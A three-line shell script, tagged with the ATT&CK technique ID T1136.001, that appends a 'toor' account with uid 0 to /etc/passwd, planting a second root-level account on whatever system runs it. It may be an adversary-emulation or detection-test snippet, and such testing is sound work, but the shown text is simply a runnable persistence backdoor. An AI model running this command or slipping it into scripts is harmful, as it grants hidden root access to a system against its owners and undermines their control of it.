#!/bin/sh
# T1136.001: a second account with uid 0 appended to /etc/passwd.
echo "toor:x:0:0:toor:/root:/bin/sh" >> /etc/passwd
